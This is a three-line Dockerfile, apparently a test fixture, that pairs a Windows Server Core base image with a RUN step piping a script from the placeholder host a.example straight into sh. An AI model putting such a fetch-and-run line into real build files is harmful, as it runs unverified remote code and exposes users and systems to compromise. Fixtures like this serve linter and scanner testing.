# escape=`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
RUN curl https://a.example/i.sh | sh
